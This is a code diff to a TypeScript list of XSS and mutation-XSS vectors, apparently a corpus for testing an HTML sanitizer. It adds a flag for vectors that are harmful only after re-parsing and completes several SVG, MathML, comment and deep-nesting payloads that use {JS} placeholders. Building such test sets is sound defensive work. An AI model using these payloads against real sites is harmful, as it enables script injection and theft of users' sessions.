@@ -14,9 +14,12 @@ export interface XssVector {
   id: string;
   cls: VectorClass;
   html: string;
+  /** Inert as parsed HTML: dangerous only if some step serializes and re-parses it differently. */
+  mutationOnly?: boolean;
 }
 
-const v = (id: string, cls: VectorClass, html: string): XssVector => ({ id: `xv-${id}`, cls, html });
+const v = (id: string, cls: VectorClass, html: string, mutationOnly = false): XssVector =>
+  mutationOnly ? { id: `xv-${id}`, cls, html, mutationOnly } : { id: `xv-${id}`, cls, html };
 
 const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
 
@@ -66,18 +69,18 @@ export const XSS_VECTORS: readonly XssVector[] = Object.freeze([
   v('svg-foreignobject', 'svg-math', '<svg><foreignObject><img src="x:" onerror="{JS}"></foreignObject></svg>'),
   v('math-annotation-xml', 'svg-math', '<math><annotation-xml encoding="text/html"><img src="x:" onerror="{JS}"></annotation-xml></math>'),
   v('svg-style-mxss', 'svg-math', '<svg></p><style><a id="</style><img src=x onerror={JS}>"></style></svg>'),
-  v('math-mglyph-style', 'svg-math', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={JS}&gt;">'),
+  v('math-mglyph-style', 'svg-math', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={JS}&gt;"></style></mglyph></table></mtext></math>'),
   v('svg-use-href', 'svg-math', '<svg><use href="{URL}#x"/></svg>'),
   v('svg-feimage', 'svg-math', '<svg><filter id="f"><feImage href="{URL}"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>'),
   // nesting mXSS (CVE-2024-47875 shape: depth past the parser's 512 limit re-parses differently)
   v('nesting-mxss-div', 'mxss-nesting', `${'<div>'.repeat(510)}<svg><p><style><img src=x onerror={JS}></style></p></svg>${'</div>'.repeat(510)}`),
-  v('nesting-mxss-form', 'mxss-nesting', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror={JS}>">'),
-  v('nesting-mxss-table', 'mxss-nesting', `${'<table><caption>'.repeat(260)}<svg><title><style><img src=x onerror={JS}></style></title></svg>`),
+  v('nesting-mxss-form', 'mxss-nesting', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror={JS}>"></style></mtext></svg></mglyph></form></mtext></math>'),
+  v('nesting-mxss-table', 'mxss-nesting', `${'<table><caption>'.repeat(260)}<svg><title><style><img src=x onerror={JS}></style></title></svg>${'</caption></table>'.repeat(260)}`),
   // <! comment and CDATA shapes
   v('comment-bang-mxss', 'mxss-comment', '<svg><style><!--</style><img src=x onerror={JS}>--></style></svg>'),
   v('cdata-mxss', 'mxss-comment', '<svg><![CDATA[><img src=x onerror={JS}>]]></svg>'),
-  v('bogus-comment', 'mxss-comment', '<![CDATA[<img src=x onerror={JS}>]]>'),
-  v('comment-attr', 'mxss-comment', '<p title="<!--"></p><p title="--><img src=x onerror={JS}>">quoted</p>'),
+  v('bogus-comment', 'mxss-comment', '<![CDATA[<img src=x onerror={JS}>]]>', true),
+  v('comment-attr', 'mxss-comment', '<p title="<!--"></p><p title="--><img src=x onerror={JS}>">quoted</p>', true),
   v('processing-instruction', 'mxss-comment', '<?xml-stylesheet > <img src=x onerror="{JS}"> ?>'),
   // rawtext and noscript mXSS
   v('noscript-mxss', 'noscript', '<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>'),
